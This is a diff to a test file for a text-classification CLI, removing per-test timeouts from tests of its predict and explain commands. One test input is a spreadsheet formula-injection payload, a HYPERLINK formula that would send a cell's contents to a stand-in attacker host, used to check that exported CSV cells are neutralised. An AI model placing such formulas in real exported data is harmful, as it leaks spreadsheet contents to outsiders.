@@ -19,7 +19,7 @@ beforeAll(async () => {
   dir = await mkdtemp(join(tmpdir(), 'textops-cli-predict-'));
   model = await trainSmallModel(800);
   modelDir = await modelDirectory(model);
-}, 120_000);
+});
 
 afterAll(async () => {
   if (dir) await rm(dir, { recursive: true, force: true });
@@ -81,7 +81,7 @@ describe('textops predict --file', () => {
       ).code,
     ).toBe(0);
     expect(await readFile(join(dir, 'one.csv'), 'utf8')).toBe(await readFile(out, 'utf8'));
-  }, 120_000);
+  });
 
   it('writes no cell a spreadsheet would run as a formula, and scores the text as read', async () => {
     const texts = ['=HYPERLINK("http://evil.test/?"&A1,"click") a great film', '-awful, boring film', 'fine'];
@@ -133,7 +133,7 @@ describe('textops predict --file', () => {
         'bro"',
       ],
     ]);
-  }, 60_000);
+  });
 
   it('an empty file or one with no text column fails by name and writes no output', async () => {
     const empty = join(dir, 'empty.csv');
@@ -182,7 +182,7 @@ describe('textops predict --file', () => {
     ).toBe(false);
     const leftovers = (await import('node:fs')).readdirSync(dir).filter((f) => f.includes('.partial-'));
     expect(leftovers).toEqual([]);
-  }, 60_000);
+  });
 });
 
 describe('textops predict --explain', () => {
@@ -209,7 +209,7 @@ describe('textops predict --explain', () => {
     expect(
       (await runTextops(['predict', '--model', modelDir, '--explain', '--top-k', '99', text])).code,
     ).not.toBe(0);
-  }, 60_000);
+  });
 
   it('shows a character n-gram inside the word it was cut from, its padding as ␣', async () => {
     const chars = await modelDirectory(await trainSmallModel(600, 0, { analyzer: 'char_wb' }));
@@ -222,5 +222,5 @@ describe('textops predict --explain', () => {
     for (const g of grams) expect(g.replace(/[[\]␣]/g, '')).toBe('Wonderful');
     expect(grams).toContain('[␣Wo]nderful');
     expect(grams).toContain('Wonderfu[l␣]');
-  }, 120_000);
+  });
 });
